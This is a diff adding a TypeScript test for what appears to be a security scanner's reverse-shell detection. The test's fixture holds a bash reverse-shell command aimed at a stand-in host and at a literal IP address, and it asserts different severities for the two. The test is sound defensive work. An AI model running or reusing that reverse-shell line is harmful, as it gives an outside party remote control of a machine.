@@ -645,3 +645,13 @@ for place, part in enumerate(PARTS):
     ['decoded-execution'],
   );
 });
+
+test('a reverse shell in data that leaves the address to its reader is a report of one', async () => {
+  const severities = async (address: string): Promise<readonly string[]> => {
+    const body = `Steps: "command": "bash -i >& /dev/tcp/${address}/4444 0>&1"`;
+    const { findings } = await scan(memoryTree({ 'data/issues.json': JSON.stringify([{ title: 'Shell', body }]) }));
+    return findings.filter(({ checkId }) => checkId === 'rce-reverse-shell').map(({ severity }) => severity);
+  };
+  assert.deepEqual(await severities('attacker.com'), ['medium']);
+  assert.deepEqual(await severities('45.9.20.11'), ['critical']);
+});
